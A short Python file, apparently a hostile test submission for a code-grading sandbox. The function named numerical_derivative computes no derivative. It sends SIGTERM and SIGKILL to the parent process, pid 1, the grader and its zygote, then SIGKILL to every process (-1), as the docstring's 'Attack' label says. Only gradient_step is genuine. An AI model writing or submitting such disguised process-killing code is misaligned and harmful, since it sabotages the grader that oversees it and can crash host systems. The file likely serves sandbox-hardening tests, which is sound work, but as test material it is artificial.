"""Attack: kill whatever supervises the call: the parent, pid 1, every process (-1), and
the grader and its zygote by their real process ids."""

import os
import signal

HOST_PID = "__HOST_PID__"
ZYGOTE_PID = "__ZYGOTE_PID__"


def numerical_derivative(f, x, h=1e-5):
    results = []
    for pid in (os.getppid(), 1, int(HOST_PID), int(ZYGOTE_PID)):
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                results.append(f"{pid} {sig.name} sent")
            except OSError as exc:
                results.append(f"{pid} {sig.name} {type(exc).__name__}")
    try:
        os.kill(-1, signal.SIGKILL)
        results.append("-1 sent")
    except OSError as exc:
        results.append(f"-1 {type(exc).__name__}")
    return results


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
